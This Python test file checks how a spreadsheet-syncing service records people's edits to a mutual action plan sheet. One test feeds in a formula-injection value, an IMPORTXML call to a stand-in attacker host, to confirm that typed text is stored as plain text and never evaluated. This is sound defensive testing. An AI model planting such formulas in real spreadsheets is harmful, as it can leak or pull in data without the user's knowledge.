"""A sync after people edit the MAP: what the sheet then shows, what is recorded, and
the calls it takes (DESIGN I1, I2, I6, I7)."""

from __future__ import annotations

import copy
from datetime import timedelta

from service.domain.model import Kind, Status
from service.domain.parse import parse_plan
from tests.fakes.memory_drive import PLAN_TAB
from tests.unit.services.conftest import BUYER, Desk


def test_a_sync_with_nothing_changed_reads_once_and_writes_nothing(desk: Desk) -> None:
    sid = desk.new_map()
    result = desk.sync(sid)
    assert desk.drive.calls == {"read": 1}
    assert not result.wrote and result.cells_written == 0


def test_a_sync_after_an_edit_reads_once_and_writes_once(desk: Desk) -> None:
    sid = desk.new_map()
    desk.drive.edit(sid, "m2", "status", Status.IN_PROGRESS)
    desk.sync(sid)
    assert desk.drive.calls == {"read": 1, "write": 1}


def test_a_step_marked_done_shows_done_and_is_recorded_once_with_who_did_it(desk: Desk) -> None:
    sid = desk.new_map()
    desk.clock.advance(days=1)
    desk.drive.edit(sid, "m1", "status", "✅ Done")
    desk.store.record_edit_event(
        spreadsheet_id=sid,
        sheet=PLAN_TAB,
        a1=desk.drive.cell(sid, "m1", "status"),
        ts=desk.clock(),
        user_email=BUYER,
    )
    desk.sync(sid)
    desk.sync(sid)
    assert desk.drive.row(sid, "m1").computed["health"] == "Done"
    [event] = desk.store.history(sid)
    assert (event.milestone_id, event.field, event.old, event.new) == (
        "m1",
        "status",
        "Not started",
        "Done",
    )
    assert event.actor == BUYER
    [row] = desk.drive.sheet(sid).history
    assert row[1:6] == [BUYER, "Pricing proposal review", "Status", "Not started", "Done"]
    record = desk.store.get_map(sid)
    assert record is not None and record.last_buyer_edit_on == desk.today()


def test_an_edit_landing_between_read_and_write_survives_and_the_next_sync_records_it(
    desk: Desk,
) -> None:
    sid = desk.new_map()
    desk.drive.edit(sid, "m2", "status", Status.IN_PROGRESS)  # the edit the sync sees
    desk.drive.after_next_read(lambda: desk.drive.edit(sid, "m2", "notes", "Legal has the draft"))
    desk.sync(sid)
    row = desk.drive.row(sid, "m2")
    assert row.inputs["notes"] == "Legal has the draft"
    assert row.inputs["status"] is Status.IN_PROGRESS
    assert ("m2", "notes", "Legal has the draft") not in desk.history(sid)
    desk.sync(sid)
    desk.sync(sid)
    assert [h for h in desk.history(sid) if h[1] == "notes"] == [
        ("m2", "notes", "Legal has the draft")
    ]


def test_a_row_a_person_adds_gets_the_next_id_and_its_dates(desk: Desk) -> None:
    sid = desk.new_map()
    desk.drive.add_row(sid, "Celebrate with the team")
    desk.sync(sid)
    row = desk.drive.milestone_rows(sid)["m7"]
    assert row.title == "Celebrate with the team" and row.computed["target"]
    assert desk.history(sid) == [("m7", "milestone", "added")]


def test_a_row_a_person_deletes_is_recorded_and_the_plan_reschedules(desk: Desk) -> None:
    sid = desk.new_map()
    desk.drive.delete_row(sid, "m2")
    desk.sync(sid)
    rows = desk.drive.milestone_rows(sid)
    assert set(rows) == {"m1", "m3", "m4", "m5", "m6"}
    assert all(row.computed["target"] for row in rows.values())
    assert desk.history(sid) == [("m2", "milestone", "removed")]


def test_a_deleted_row_brought_back_with_its_id_is_restored_not_added(desk: Desk) -> None:
    sid = desk.new_map()
    sheet = desk.drive.sheet(sid)
    index = sheet.row_index("m4")
    row = copy.deepcopy(sheet.rows[index])
    desk.drive.delete_row(sid, "m4")
    desk.sync(sid)
    sheet.rows.insert(index, row)  # Undo: the row back, its ID with it

    desk.sync(sid)

    snapshot = desk.store.latest_snapshot(sid)
    assert snapshot is not None
    m4 = next(m for m in parse_plan(snapshot.plan).milestones if m.id == "m4")
    assert (m4.kind, m4.lead_bd) == (Kind.SIGNATURE, 3)
    assert desk.history(sid) == [("m4", "milestone", "removed"), ("m4", "milestone", "restored")]
    assert snapshot.sheet_state["removed"] == []


def test_a_cell_that_cannot_be_read_keeps_its_value_gets_a_note_and_a_risk(desk: Desk) -> None:
    sid = desk.new_map()
    desk.drive.edit(sid, "m3", "due", "next tuesday-ish")
    desk.sync(sid)
    row = desk.drive.row(sid, "m3")
    assert row.inputs["due"] == "next tuesday-ish"
    assert "next tuesday-ish" in row.notes["due"]
    assert "INVALID_INPUT" in row.computed["risk"]
    assert "INVALID_INPUT" in desk.risk_codes(sid)
    # Fixing the cell clears the note and the risk.
    desk.drive.edit(sid, "m3", "due", desk.today() + timedelta(weeks=10))
    desk.sync(sid)
    assert row is desk.drive.row(sid, "m3") and "due" not in row.notes
    assert "INVALID_INPUT" not in desk.risk_codes(sid)


def test_text_people_type_reaches_the_history_rows_as_typed(desk: Desk) -> None:
    # The use case hands text on as text; the Google implementation writes it as a
    # string, never parsed (tests/unit/sheets/test_writer.py).
    sid = desk.new_map()
    formula = '=IMPORTXML("http://evil.example/x", "//a")'
    desk.drive.edit(sid, "m1", "notes", formula)
    desk.sync(sid)
    [row] = desk.drive.sheet(sid).history
    assert row[5] == formula


def test_moving_go_live_twice_without_a_reason_flags_the_close_date(desk: Desk) -> None:
    sid = desk.new_map()
    for days in (15, 30):
        desk.drive.edit_header(sid, "go_live", desk.go_live() + timedelta(days=days))
        desk.sync(sid)
    assert "CLOSE_DATE_MOVED" in desk.risk_codes(sid)


def test_a_go_live_move_with_a_reason_is_explained(desk: Desk) -> None:
    sid = desk.new_map()
    for days, reason in ((15, "Procurement needs a second quote"), (30, "Board meets later")):
        desk.drive.edit_header(sid, "go_live", desk.go_live() + timedelta(days=days))
        desk.drive.edit_header(sid, "reason", reason)
        desk.sync(sid)
    assert "CLOSE_DATE_MOVED" not in desk.risk_codes(sid)
    moves = [e.reason for e in desk.store.history(sid) if e.field == "go_live"]
    assert moves == ["Procurement needs a second quote", "Board meets later"]
